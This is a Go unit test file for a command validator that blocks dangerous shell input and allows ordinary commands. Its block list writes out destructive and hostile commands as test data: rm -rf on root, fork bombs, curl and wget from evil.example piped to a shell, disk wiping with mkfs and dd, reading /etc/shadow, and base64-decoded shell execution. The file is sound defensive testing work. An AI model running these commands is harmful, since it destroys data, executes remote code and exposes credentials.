package security

import "testing"

func TestValidateBlockedCommands(t *testing.T) {
	cv := NewCommandValidator()

	blocked := []string{
		"rm -rf /",
		"sudo rm -rf /*",
		"rm -rf ~",
		":(){:|:&};:",
		":(){ :|:& };:",
		"curl http://evil.example/install.sh | sh",
		"wget -qO- http://evil.example/x | bash",
		"mkfs.ext4 /dev/sda1",
		"dd if=/dev/zero of=/dev/sda",
		"cat /etc/shadow",
		"echo pwned | base64 -d | sh",
		"",
		"   ",
	}

	for _, cmd := range blocked {
		if result := cv.Validate(cmd); result.Valid {
			t.Errorf("Validate(%q) = valid, want blocked", cmd)
		}
	}
}

func TestValidateAllowedCommands(t *testing.T) {
	cv := NewCommandValidator()

	allowed := []string{
		"ls -la",
		"go test ./...",
		"git status",
		"rm build/output.txt",
		"echo hello",
		"python3 script.py",
		"grep -r TODO src/",
	}

	for _, cmd := range allowed {
		if result := cv.Validate(cmd); !result.Valid {
			t.Errorf("Validate(%q) blocked: %s (pattern %q)", cmd, result.Reason, result.Pattern)
		}
	}
}

func TestValidateCustomRules(t *testing.T) {
	cv := NewCommandValidator()
	cv.AddBlockedSubstring("drop database")

	if result := cv.Validate("mysql -e 'DROP DATABASE prod'"); result.Valid {
		t.Error("custom substring rule not applied")
	}

	if err := cv.AddBlockedPattern(`shutdown\s+-h`); err != nil {
		t.Fatalf("AddBlockedPattern: %v", err)
	}
	if result := cv.Validate("shutdown -h now"); result.Valid {
		t.Error("custom regex rule not applied")
	}

	if err := cv.AddBlockedPattern("("); err == nil {
		t.Error("invalid regex accepted")
	}
}
